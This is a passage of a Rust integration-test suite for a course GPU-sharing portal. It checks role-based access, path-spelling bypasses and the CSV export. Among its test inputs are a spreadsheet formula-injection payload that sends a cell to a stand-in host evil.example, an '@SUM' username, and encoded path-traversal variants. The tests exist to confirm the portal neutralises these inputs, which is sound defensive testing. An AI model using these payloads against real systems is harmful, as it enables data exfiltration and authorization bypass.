    }
    for (i, cookie) in cookies.iter().enumerate() {
        if let Some(cookie) = cookie {
            let token = cookie.split_once('=').unwrap().1.to_string();
            let mut only_self = [false; 6];
            only_self[i] = true;
            secrets.push((token, "another caller's session token", only_self));
        }
    }
    let secrets = Secrets(secrets);

    // The markers are real: each shows where it may.
    let admin_status = answer(&portal, &cookies[5], "check_instance", "").await;
    assert!(admin_status.contains(&session), "{admin_status}");
    let anyones_status = answer(&portal, &None, "check_instance", "").await;
    assert!(anyones_status.contains("l4.24gb.1of2") && anyones_status.contains("capped share (MPS)"), "{anyones_status}");
    let alices = answer(&portal, &cookies[1], "my_sessions", "").await;
    assert!(alices.contains(&session), "{alices}");
    let ivys_roster = answer(&portal, &cookies[3], "open_course", "code=CS-101").await;
    assert!(
        ivys_roster.contains("student-a-secret@example.edu"),
        "{ivys_roster}"
    );

    let ivys_class = answer(&portal, &cookies[3], "class_dashboard", "code=CS-101").await;
    assert!(ivys_class.contains(&session), "{ivys_class}");

    // A slice's activity is its session's: alice, her instructor and admins read it,
    // bob and the other course's instructor learn nothing, not even that it exists.
    for (i, may) in [(1, true), (2, false), (3, true), (4, false), (5, true)] {
        let resp = post(&client(), &portal.url, cookies[i].as_deref(), "slice_activity", format!("id={session}")).await;
        assert_eq!(resp.status().as_u16(), if may { 200 } else { 404 }, "{} reading alice's slice activity", CALLERS[i]);
    }

    // Only alice answers her session's idle warning: bob and the other course's instructor
    // learn nothing, her instructor and admins are refused, and none of them is recorded
    // as having kept it running.
    for (i, status) in [(2, 404), (4, 404), (3, 403), (5, 403), (1, 200)] {
        let resp = post(&client(), &portal.url, cookies[i].as_deref(), "keep_session_running", format!("id={session}")).await;
        assert_eq!(resp.status().as_u16(), status, "{} keeping alice's session running", CALLERS[i]);
    }
    let kept = get_text(&format!("{}/admin/audit.csv?what=session.", portal.url), cookies[5].as_deref().unwrap()).await;
    let keepers: Vec<&str> = kept.lines().filter(|l| l.contains(",session.keep,")).collect();
    assert!(keepers.len() == 1 && keepers[0].contains(",alice,session.keep,"), "{kept}");

    // Usage reports: ivy's rows name alice, ian's (who teaches the other course) do not,
    // whether he asks for all his courses or names hers; the CSV keeps the same line.
    let by_user = "period=week&from=&to=&group=user&course=";
    let ivys_report = answer(&portal, &cookies[3], "usage_report", by_user).await;
    assert!(ivys_report.contains("\"key\":\"alice\""), "{ivys_report}");
    let ians_report = answer(&portal, &cookies[4], "usage_report", by_user).await;
    assert!(!ians_report.contains("alice"), "{ians_report}");
    let ians_try = answer(&portal, &cookies[4], "usage_report", "period=week&from=&to=&group=user&course=CS-101").await;
    assert!(!ians_try.contains("alice"), "{ians_try}");
    for (cookie, sees_alice) in [(&cookies[3], true), (&cookies[4], false), (&cookies[5], true)] {
        let csv = get_text(&format!("{}/reports/usage.csv?period=week&group=user", portal.url), cookie.as_deref().unwrap()).await;
        assert_eq!(csv.contains(",alice,"), sees_alice, "{csv}");
    }
    // Bad fields in a CSV link: 400 with the form's own words, nothing of the internals.
    for path in ["/reports/usage.csv?period=month", "/admin/audit.csv?from=30%2F11%2F2026"] {
        let resp = client().get(format!("{}{path}", portal.url)).header("cookie", cookies[5].as_deref().unwrap()).send().await.unwrap();
        assert_eq!(resp.status(), 400, "{path}");
        let words = resp.text().await.unwrap();
        assert!(words.contains("Unknown period") || words.contains("is not a date"), "{path}: {words}");
    }

    // CSV downloads are formula-free: a display name set by a roster and a username someone
    // tried to sign in with come out as text, a quote in front, not as live formulas.
    let formula = r#"=HYPERLINK("http://evil.example/?leak="&B2,"Grades")"#;
    let roster_with_formula = format!("username,display name,email\nmallory,\"{}\",\n", formula.replace('"', "\"\""));
    let body = format!("code=CS-101&csv_base64={}", urlencode(&base64(roster_with_formula.as_bytes())));
    let resp = post(&client(), &portal.url, Some(&admin), "import_roster", body).await;
    assert_eq!(resp.status(), 200, "{}", resp.text().await.unwrap());
    let resp = post(&client(), &portal.url, None, "login", format!("username={}&password=wrong-password", urlencode("@SUM(1+1)"))).await;
    assert_eq!(resp.status(), 401, "{}", resp.text().await.unwrap());
    let usage = get_text(&format!("{}/courses/CS-101/usage.csv", portal.url), cookies[3].as_deref().unwrap()).await;
    let quoted = format!(",\"'{}\",", formula.replace('"', "\"\""));
    assert!(usage.lines().any(|l| l.starts_with("CS-101,mallory,") && l.contains(&quoted)), "{usage}");
    assert!(!usage.contains(",=HYPERLINK") && !usage.contains(",\"=HYPERLINK"), "{usage}");
    let audit = get_text(&format!("{}/admin/audit.csv?what=login", portal.url), cookies[5].as_deref().unwrap()).await;
    assert!(audit.contains(",anonymous,login.failure,'@SUM(1+1),"), "{audit}");
    assert!(!audit.contains(",@SUM("), "{audit}");

    // The course routes however their path is spelled: percent-encoded, double-encoded,
    // in another case, with a trailing slash, `//` or dot segments. Nobody outside CS-101
    // gets 200 or a line naming its students (alice, mallory) or alice's email; its
    // instructor still gets the CSV for the spellings the router serves.
    let spellings = [
        "/courses/%43S-101/usage.csv",
        "/courses/CS%2D101/usage.csv",
        "/courses/CS%2d101/usage.csv",
        "/courses/%43%53%2D%31%30%31/usage.csv",
        "/courses/%2543S-101/usage.csv",
        "/courses/%252543S-101/usage.csv",
        "/courses/cs-101/usage.csv",
        "/courses/Cs-101/usage.csv",
        "/COURSES/CS-101/USAGE.CSV",
        "/courses/CS-101/Usage.csv",
        "/courses/CS-101/usage.csv/",
        "/courses/%43S-101/usage.csv/",
        "//courses/CS-101/usage.csv",
        "/courses//CS-101/usage.csv",
        "/courses/CS-101//usage.csv",
        "/courses/CS-101/./usage.csv",
        "/courses/x/../CS-101/usage.csv",
        "/courses/./CS-101/usage.csv",
        "/courses/%2E%2E/courses/CS-101/usage.csv",
        "/courses/CS-101/%2e/usage.csv",
        "/courses/CS-101/usage.csv/..",
        "/x/../courses/CS-101/usage.csv",
        "/courses/%43S-101",
        "/courses/cs-101/",
        "/courses/%43S-101/class",
        "/courses/cs-101/class/",
        "/courses/CS-101/./class",
        "/courses/%43S-101/policy",
        "/courses/CS%2D101/bookings",
    ];
    let mut spelled = Vec::new();
    for path in spellings {
        for i in [0, 2, 4] {
            let (status, body) = raw_get(&portal, path, cookies[i].as_deref()).await;
            if status == 200 {
                spelled.push(format!("GET {path} as {}: 200", CALLERS[i]));
            }
            for marker in ["alice", "mallory", "student-a-secret@example.edu", "HYPERLINK"] {
                if body.contains(marker) {
                    spelled.push(format!("GET {path} as {} shows {marker}: {}", CALLERS[i], body.chars().take(300).collect::<String>()));
                }
            }
        }
    }
    for path in ["/courses/%43S-101/usage.csv", "/courses/CS%2D101/usage.csv", "/courses/cs-101/usage.csv"] {
        let (status, body) = raw_get(&portal, path, cookies[3].as_deref()).await;
        if status != 200 || !body.contains(",alice,") {
            spelled.push(format!("GET {path} as instructor-a: {status} {}", body.chars().take(300).collect::<String>()));
        }
    }
    assert!(spelled.is_empty(), "course routes by other spellings:\n{}", spelled.join("\n"));

    // Someone outside CS-101 cannot tell it from a course that does not exist: every
    // course page answers the same status and the same page for both codes. Anonymous
    // callers are sent to sign in for both.
    let mut told_apart = Vec::new();
    for page in ["", "/policy", "/class", "/bookings", "/usage.csv"] {
        for i in [0, 2, 4] {
            let (real, real_body) = raw_get(&portal, &format!("/courses/CS-101{page}"), cookies[i].as_deref()).await;
            let (none, none_body) = raw_get(&portal, &format!("/courses/NO-SUCH-9{page}"), cookies[i].as_deref()).await;
            let expected = if i == 0 { 303 } else { 404 };
            if real != expected || none != expected || real_body != none_body {
                told_apart.push(format!(
                    "/courses/CS-101{page} vs /courses/NO-SUCH-9{page} as {}: {real} vs {none}{}",
                    CALLERS[i],
                    if real_body == none_body { "" } else { ", different pages" }
                ));
            }
        }
    }
    assert!(told_apart.is_empty(), "an existing course told apart:\n{}", told_apart.join("\n"));

    let mut mismatches = Vec::new();
    let mut check = |what: String, i: usize, status: u16, expected: u16, body: &str| {
        if status != expected {
            mismatches.push(format!(
                "{what} as {}: {status}, expected {expected} ({body})",
                CALLERS[i]
            ));
        }
        let leaked = secrets.leaked(i, body);
        if !leaked.is_empty() {
            mismatches.push(format!(
                "{what} as {} shows {}",
                CALLERS[i],
                leaked.join(", ")
            ));
        }
    };
    for (page, expected) in PAGES.iter().chain(ENDPOINTS) {
        let path = page.replace("{code}", "CS-101");
        for (i, cookie) in cookies.iter().enumerate() {
            let mut request = client().get(format!("{}{path}", portal.url));
            if let Some(cookie) = cookie {
                request = request.header("cookie", cookie);
            }
            let resp = request.send().await.unwrap();
            let status = resp.status().as_u16();
            check(
                format!("GET {path}"),
                i,
                status,
                expected[i],
                &body_of(resp).await,
            );
        }
    }
    // A function's form body with its placeholders filled, `n` unique to the call.
    let filled = |body: &str, n: usize| {
        body.replace("{n}", &n.to_string())
            .replace("{roster}", &roster)
            .replace("{foreign}", &foreign)
            .replace("{spare}", &spare_id)
    };
    let mut n = 0;
    for (function, body, expected) in FUNCTIONS {
        for (i, cookie) in cookies.iter().enumerate() {
            n += 1;
            let body = filled(body, n);
            let resp = post(&client(), &portal.url, cookie.as_deref(), function, body).await;
            let status = resp.status().as_u16();
            check(
                format!("POST /api/{function}"),
                i,
                status,
                expected[i],
                &body_of(resp).await,
            );
        }
    }
    // The REST API and the hub API with each caller's token: the statuses of the table,
    // and nothing in any answer the caller may not see. The pages' login cookie opens
    // neither.
    let api_filled = |text: &str, n: usize| {
        filled(text, n)
            .replace("{session}", &session)
            .replace("{roster_csv}", "username,display name,email\nalice,alice,\n")
            .replace("{foreign_csv}", "username,display name,email\nalice,alice,\nbob,Bob,x@evil.example\nspare,Spare,\n")
    };
    for (kind, (method, _, path, body, expected)) in API.iter().map(|r| ("Bearer", r)).chain(HUB.iter().map(|r| ("token", r))) {
        for (i, token) in tokens.iter().enumerate() {
            n += 1;
            let (path, body) = (api_filled(path, n), api_filled(body, n));
            let mut request = no_redirects().request(method.parse().unwrap(), format!("{}{path}", portal.url));
            if let Some(token) = token {
                request = request.header("authorization", format!("{kind} {token}"));
            }
            if !body.is_empty() {
                let csv = body.starts_with("username");
                request = request.header("content-type", if csv { "text/csv" } else { "application/json" }).body(body);
            }
            let resp = request.send().await.unwrap();
            let status = resp.status().as_u16();
            let mut answer = body_of(resp).await;
            // A refusal may repeat the id the caller sent; it must read exactly as for a
            // session that does not exist.
            if status == 404 && path.contains(&session) {
                let nosuch = path.replace(&session, "s-nosuchsession");
                let mut request = no_redirects().request(method.parse().unwrap(), format!("{}{nosuch}", portal.url));
                if let Some(token) = token {
                    request = request.header("authorization", format!("{kind} {token}"));
                }
                let other = body_of(request.send().await.unwrap()).await;
                answer = answer.replace(&session, "s-nosuchsession");
                if answer != other {
                    check(format!("{method} {path} told apart from no session: {answer} vs {other}"), i, 0, 404, "");
                }
            }
            check(format!("{method} {path}"), i, status, expected[i], &answer);
        }
    }
    for (method, _, path, _, expected) in API.iter().filter(|r| r.0 == "GET") {
        let path = api_filled(path, 0);
        for (i, cookie) in cookies.iter().enumerate().skip(1).filter(|(i, _)| expected[*i] == 200) {
            let resp = client().get(format!("{}{path}", portal.url)).header("cookie", cookie.as_deref().unwrap()).send().await.unwrap();
            if !path.ends_with("openapi.json") && !path.ends_with("/docs") && resp.status() != 401 {
                mismatches.push(format!("{method} {path} with {}'s login cookie: {}", CALLERS[i], resp.status()));
            }
        }
    }

    // Every route however its path is spelled: a caller the table turns away is turned away
    // by every spelling too, and no spelling shows anyone what the table keeps from them.
    for (page, expected) in PAGES.iter().chain(ENDPOINTS) {
        let path = page.replace("{code}", "CS-101").replace("{*rest}", "nobody/s-none/lab");
        for variant in spellings_of(&path) {
            for (i, cookie) in cookies.iter().enumerate() {
                let (status, body) = raw_get(&portal, &variant, cookie.as_deref()).await;
                if expected[i] != 200 && status == 200 {
                    mismatches.push(format!("GET {variant} as {}: 200 where {path} answers {}", CALLERS[i], expected[i]));
                }
                let leaked = secrets.leaked(i, &body);
                if !leaked.is_empty() {
                    mismatches.push(format!("GET {variant} as {} shows {}", CALLERS[i], leaked.join(", ")));
                }
            }
        }
    }
    for (function, body, expected) in FUNCTIONS {
        for variant in spellings_of(&format!("/api/{function}")) {
            for (i, cookie) in cookies.iter().enumerate().filter(|(i, _)| expected[*i] != 200) {
                n += 1;
                let body = filled(body, n);
                let cookie = cookie.as_deref().map(|c| format!("\r\nCookie: {c}")).unwrap_or_default();
                let head = format!(
                    "POST {variant} HTTP/1.1\r\nOrigin: {}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}{cookie}",
                    portal.url,
                    body.len()
                );
                let (status, answer) = raw(&portal, &head, &body).await;
                if status == 200 {
                    mismatches.push(format!("POST {variant} as {}: 200 where /api/{function} answers {}", CALLERS[i], expected[i]));
                }
                let leaked = secrets.leaked(i, &answer);
                if !leaked.is_empty() {
                    mismatches.push(format!("POST {variant} as {} shows {}", CALLERS[i], leaked.join(", ")));
                }
            }
        }
    }
    let stopped = portal.cli(&["session", "stop", &session, "--reason", "test over"], "");
    assert!(stopped.contains("ended"), "{stopped}");
    assert!(
        mismatches.is_empty(),
        "authorization mismatches:\n{}",
        mismatches.join("\n")
    );
}

/// Accounts from every way in meet the one guard: a student the web server in front signs
/// in by header (a group giving CS-101) gets, on every page, endpoint and server function
/// of the table, exactly the answer a local student of CS-101 gets. (OpenID Connect, LDAP
/// and LMS accounts reach the guard the same way, as a login session of an account; their
/// own tests check the roles they are given.)
#[tokio::test]
async fn a_student_from_a_provider_gets_a_local_students_answers_everywhere() {
    let portal = Portal::start(
        BIN.as_ref(),
        &[
            ("SLICEHUB_ADMIN_PASSWORD", ADMIN_PASSWORD),
            ("SLICEHUB_SERVER_TRUSTED_PROXIES", "127.0.0.1"),
            ("SLICEHUB_HEADER_SIGN_IN_USER_HEADER", "X-Remote-User"),
            ("SLICEHUB_HEADER_SIGN_IN_GROUPS_HEADER", "X-Remote-Groups"),
            ("SLICEHUB_HEADER_SIGN_IN_COURSE_GROUPS", "CS-101: cs101-students=student"),
        ],
    )
    .await;
    portal.cli(&["course", "add", "CS-101", "Deep Learning"], "");
    portal.cli(&["user", "add", "alice", "--password-stdin"], "alice-password-1\n");
    let admin = signed_in(&portal, "admin", ADMIN_PASSWORD).await;
    let csv = urlencode(&base64(b"username,display name,email\nalice,alice,\n"));
    let resp = post(&client(), &portal.url, Some(&admin), "import_roster", format!("code=CS-101&csv_base64={csv}")).await;
    assert_eq!(resp.status(), 200, "{}", resp.text().await.unwrap());
    let alice = signed_in(&portal, "alice", "alice-password-1").await;
    let hana = |request: reqwest::RequestBuilder| {
        request.header("x-remote-user", "hana@campus.example").header("x-remote-groups", "cs101-students")
    };

    let mut differ = Vec::new();
    for (page, _) in PAGES.iter().chain(ENDPOINTS) {
        let url = format!("{}{}", portal.url, page.replace("{code}", "CS-101"));
        let local = client().get(&url).header("cookie", &alice).send().await.unwrap().status();
        let from_header = hana(client().get(&url)).send().await.unwrap().status();
        if local != from_header {
            differ.push(format!("GET {page}: local student {local}, header student {from_header}"));
        }
    }
    for (function, body, _) in FUNCTIONS {
        // Bodies that name the main matrix's own fixtures (a roster file, a spare account).
        if body.contains("{roster}") || body.contains("{foreign}") || body.contains("{spare}") {
            continue;
        }
        let body = body.replace("{n}", "7");
        let call = |request: reqwest::RequestBuilder| {
            request
                .header("content-type", "application/x-www-form-urlencoded")
                .header("origin", &portal.url)
                .body(body.clone())
        };
        let url = format!("{}/api/{function}", portal.url);
        let local = call(client().post(&url).header("cookie", &alice)).send().await.unwrap().status();
        let from_header = call(hana(client().post(&url))).send().await.unwrap().status();
        if local != from_header {
            differ.push(format!("{function}: local student {local}, header student {from_header}"));
        }
    }
    assert!(differ.is_empty(), "a provider's student is not treated as a local one:\n{}", differ.join("\n"));
    let users = json_of(&portal, &admin, "list_users").await;
    let hana_row = users.as_array().unwrap().iter().find(|u| u["username"] == "hana").expect("hana's account was made");
    assert!(!hana_row["sources"].to_string().contains("Password"), "{hana_row}");
}
